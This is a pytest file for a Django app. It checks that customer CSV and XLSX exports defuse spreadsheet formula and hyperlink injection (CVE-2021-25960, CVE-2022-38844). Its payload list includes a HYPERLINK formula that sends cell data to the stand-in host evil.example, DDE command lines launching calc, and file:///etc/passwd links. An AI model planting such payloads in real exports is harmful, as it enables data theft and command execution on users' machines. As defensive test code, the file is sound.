"""Classes 17 and 18: nothing anybody wrote becomes a formula or a link in a file. (CVE-2021-25960, CVE-2022-38844)"""

import csv
import io
import re
from dataclasses import replace
from decimal import Decimal

import pytest
from django.test import Client

from catalogue.entity import ENTITIES
from customers.models import Customer
from tests import factories
from tests.matrix.answers import body, csv_lines, workbook
from tests.matrix.ground import Ground, invoice, today
from workbench.export import harmless

pytestmark = pytest.mark.django_db
Browsers = dict[str, Client]

CALL = 'HYPERLINK("http://evil.example?x="&A1,"click")'
STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
BEFORE = ["", " ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u00a0 \u3000", "\v", "\f", " \t"]
PAYLOADS = [before + start + CALL for before in BEFORE for start in STARTS] + [
    "\tharmless after a tab", "\rharmless after a return", "\nharmless after a line end", "=", "-", "+47 12 34 56 78",
    "-1+1", "=1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '"=1+1"', '",=1+1', "x,=1+1",
    "x;=1+1", 'x;"=1+1;y', 'x;""=1+1;y', 'x;" =1+1;y', 'a\n"=1+1;b',
    'a\t"@SUM(1)\tb', "x;\u00a0=1+1", "a;b;@SUM(1)",
    "a\tb\t=1+1", "a\n=1+1;b", "a\r\n+1+1", "x;=1+1;y;=2+2", "\uff1d1+1",
]  # fmt: skip


def is_formula(cell: str) -> bool:
    """What a spreadsheet would compute: a sign after nothing but blanks; tab and line end at the start may hide one."""
    return cell[:1] in {"\t", "\r", "\n"} or cell.strip(" \t\r\n\v\f\u00a0\u3000")[:1] in set(STARTS)


def cells(text: str, delimiter: str) -> list[str]:
    """Every cell a spreadsheet may make of the text; splitting at semicolons it knows nothing of our quotes."""
    read = [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in line]
    pieces = re.split("[;\t\r\n]", text) if delimiter == ";" else []
    return read + [re.sub('^(?:"")*', "", piece) for piece in pieces]


def test_the_oracle_knows_every_payload_with_a_plain_start() -> None:
    assert all(is_formula(payload) for payload in PAYLOADS[: len(BEFORE) * len(STARTS)])
    assert not any(is_formula(cell) for cell in ("Ålesund", "'=1+1", "", "7", "a-b", "50 %"))


def test_no_text_becomes_a_formula_in_csv(ground: Ground, browsers: Browsers) -> None:
    for number, payload in enumerate(PAYLOADS, start=5000):
        factories.customer(payload, number=number, notes=payload, legal_form=payload[:60])
    response = browsers["admin"].post(
        "/customers/?columns=name,notes,legal_form,number&number.min=5000", {"export": "csv", "facts": "on"}
    )
    text = body(response).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert len([line for line in lines if line and line[-1].isdigit() and len(line) == 4]) == len(PAYLOADS)
    for delimiter in ",;\t":
        assert not [cell for cell in cells(text, delimiter) if is_formula(cell)]


def test_what_was_written_stays_readable_in_csv(browsers: Browsers) -> None:
    factories.customer("=1+1", number=5001)
    factories.customer("Berg; -og dal", number=5002)
    factories.customer('Ola\'s "hus", Bø\nog mer', number=5003)
    factories.customer("'quoted'", number=5004)
    lines = csv_lines(browsers["admin"].post("/customers/?columns=name&number.min=5000&sort=number", {"export": "csv"}))
    assert [line[0] for line in lines[1:]] == ["'=1+1", "Berg; '-og dal", 'Ola\'s "hus", Bø\nog mer', "'quoted'"]


def test_a_negative_amount_stays_a_number_in_csv_and_in_the_facts(ground: Ground, browsers: Browsers) -> None:
    refunded = factories.customer("Refunded", number=5001)
    invoice(ground, refunded, 501, -1234)
    address = "/customers/?columns=name,billed_this_year&number.min=5000"
    lines = csv_lines(browsers["admin"].post(address, {"export": "csv", "facts": "on"}))
    assert lines[-1] == ["Refunded", "-1234.00"]
    assert [line[1] for line in lines if line[:1] == ["Total Billed this year"]] == ["-1234.00"]


@pytest.mark.parametrize("name", ["=HYPERLINK(1)", "\t=1", "\u00a0@SUM(1)", "\uff1d1+1", " +1", "a;=1"])
def test_the_facts_on_top_are_harmless_too(name: str, ground: Ground, browsers: Browsers) -> None:
    type(ground.people["admin"]).objects.filter(pk=ground.people["admin"].pk).update(first_name=name)
    posted = {"export": "csv", "facts": "on"}
    text = body(browsers["admin"].post(f"/customers/?columns=name&q={name.strip()}", posted)).decode("utf-8-sig")
    for delimiter in ",;":
        assert not [cell for cell in cells(text, delimiter) if is_formula(cell)]


def test_the_facts_that_are_empty_stay_empty() -> None:
    assert (harmless(""), harmless("7"), harmless("-7.50"), harmless("Oslo")) == ("", "7", "-7.50", "Oslo")
    assert (harmless("-7,50"), harmless("--7"), harmless("-7+1")) == ("'-7,50", "'--7", "'-7+1")


def test_the_labels_of_the_head_are_harmless(browsers: Browsers, monkeypatch: pytest.MonkeyPatch) -> None:
    """An organisation names its own fields one day: their labels go through the same door."""
    fields = ENTITIES["customer"].fields
    renamed = [replace(field, label="=1+1;@SUM(2)") if field.key == "notes" else field for field in fields]
    monkeypatch.setattr(ENTITIES["customer"], "fields", renamed)
    head = csv_lines(browsers["admin"].post("/customers/?columns=name,notes", {"export": "csv"}))[0]
    sheet = workbook(browsers["admin"].post("/customers/?columns=name,notes", {"export": "xlsx"})).active
    assert head[1] == "'=1+1;'@SUM(2)"
    assert (sheet.cell(1, 2).value, sheet.cell(1, 2).data_type) == ("=1+1;@SUM(2)", "s")


def test_no_text_becomes_a_formula_or_a_link_in_xlsx(ground: Ground, browsers: Browsers) -> None:
    links = ["http://evil.example", "mailto:x@evil.example", "file:///etc/passwd", "internal:Sheet1!A1",
             "external:c:\\x.xlsx", "{=1+1}", "=1+1", "=\u200b1"]  # fmt: skip
    for number, payload in enumerate([*PAYLOADS, *links], start=5000):
        factories.customer(payload, number=number, notes=payload, website=payload if payload in links else "")
    type(ground.people["admin"]).objects.filter(pk=ground.people["admin"].pk).update(first_name="=1+1")
    response = browsers["admin"].post(
        "/customers/?columns=name,notes,website&number.min=5000&sort=number", {"export": "xlsx"}
    )
    book = workbook(response)
    kinds = {cell.data_type for sheet in book for line in sheet.iter_rows() for cell in line if cell.value is not None}
    assert kinds == {"s", "n"}  # the one number is how many rows there are
    assert not [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.hyperlink]
    assert [sheet.cell(2, 1).value for sheet in book][:1] == [PAYLOADS[0]]
    assert book.worksheets[0].max_row == 1 + len(PAYLOADS) + len(links)


def test_amounts_numbers_and_dates_keep_their_types_in_xlsx(ground: Ground, browsers: Browsers) -> None:
    refunded = factories.customer("Refunded", number=5001)
    invoice(ground, refunded, 501, -1234)
    address = "/customers/?columns=name,number,billed_this_year,last_invoice&number.min=5000"
    sheet = workbook(browsers["admin"].post(address, {"export": "xlsx"})).active
    _name, number, billed, last = sheet[2]
    assert (number.data_type, billed.data_type, last.data_type) == ("n", "n", "d")
    assert (number.value, Decimal(billed.value), last.value.date()) == (5001, Decimal(-1234), today())


def test_very_long_and_odd_texts_do_not_break_a_file(browsers: Browsers) -> None:
    factories.customer("Odd", number=5001, notes="å" * 40_000 + "\x01\x1f\ufffe" + "=1+1" * 9000)
    for file_format in ("csv", "xlsx"):
        response = browsers["admin"].post("/customers/?columns=name,notes&number.min=5000", {"export": file_format})
        assert len(body(response)) > 1000
    sheet = workbook(
        browsers["admin"].post("/customers/?columns=name,notes&number.min=5000", {"export": "xlsx"})
    ).active
    assert len(sheet.cell(2, 2).value) == 32_767
    assert Customer.objects.get(number=5001).notes.endswith("=1+1")
